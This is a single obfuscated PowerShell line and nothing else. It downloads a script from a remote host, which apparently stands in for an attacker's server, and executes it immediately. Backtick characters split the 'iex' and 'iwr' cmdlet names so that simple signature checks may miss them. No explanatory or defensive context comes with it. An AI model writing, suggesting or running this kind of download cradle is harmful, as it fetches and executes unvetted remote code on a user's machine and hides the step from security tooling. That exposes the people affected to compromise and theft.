`i`e`x (i`w`r -useb https://cdn-x7.invalid/a.ps1)
